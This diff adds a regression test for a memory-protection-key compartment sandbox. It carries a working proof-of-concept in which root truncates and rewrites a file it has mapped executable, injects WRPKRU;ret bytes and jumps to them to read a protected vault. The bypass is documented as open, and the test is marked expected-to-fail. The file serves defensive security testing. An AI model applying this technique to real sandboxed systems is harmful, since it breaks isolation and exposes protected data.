@@ -1,0 +1,65 @@
+// Attacker model B, in a process that may write every file (root). The
+// supervisor makes the pages of a new private executable mapping the
+// process's own copies (runtime/supervisor-own.c), so a write to the file
+// after the scan does not reach them (attacks-review5-saved-root.c). A
+// truncation does: the kernel unmaps every page past the new size from
+// every mapping of the file, copies too (truncate_pagecache, "even_cows"),
+// and the next access faults the page in from the file again. Root maps
+// a file it wrote, truncates it to nothing, writes it again with WRPKRU;
+// ret at 0x100, jumps there with eax = ecx = edx = 0 and reads the vault.
+// Found while closing the root limitation; open. Processes that cannot
+// write the file cannot truncate it either (the rule against changeable
+// files, which therefore stays). The fix would be to refuse our process's
+// truncations (truncate, ftruncate, open with O_TRUNC, fallocate's
+// collapse and insert) of files it mapped executable, or to make the
+// pages anonymous.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
+// RUN: %run %t.on | FileCheck %s --check-prefix=ON
+// ON-NOT: ATTACK SUCCEEDED
+// ON: truncate: stopped by signal
+// ON: parent's vault intact: 1
+#include "Inputs/target.h"
+#include "Inputs/libc-wrpkru.h"
+
+#define FILE_PATH "/tmp/roottr-code"
+
+static void attack(void) {
+  static unsigned char page[4096];
+  memset(page, 0xcc, sizeof page);
+  int fd = open(FILE_PATH, O_RDWR | O_CREAT | O_TRUNC, 0644);
+  if (fd < 0 || write(fd, page, sizeof page) != sizeof page || close(fd)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  fd = open(FILE_PATH, O_RDONLY);
+  unsigned char *m =
+      fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+  if (m == MAP_FAILED) {
+    report_read("a file root truncated and wrote again", NULL);
+    return;
+  }
+  printf("mapped\n");
+  fflush(stdout);
+  memcpy(page + 0x100, (const unsigned char[]){0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3},
+         4);
+  int w = open(FILE_PATH, O_WRONLY);
+  if (w < 0 || ftruncate(w, 0) || pwrite(w, page, sizeof page, 0) != sizeof page) {
+    report_read("a file root truncated and wrote again", NULL);
+    return;
+  }
+  static char out[48];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
+                   "call *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
+                   :
+                   : "r"(m + 0x100), "r"(vault_data), "r"(out)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
+  report_read("a file root truncated and wrote again", out);
+}
+
+int main(void) {
+  struct attack a[] = {{"truncate", attack}};
+  return run_attacks(a, 1);
+}
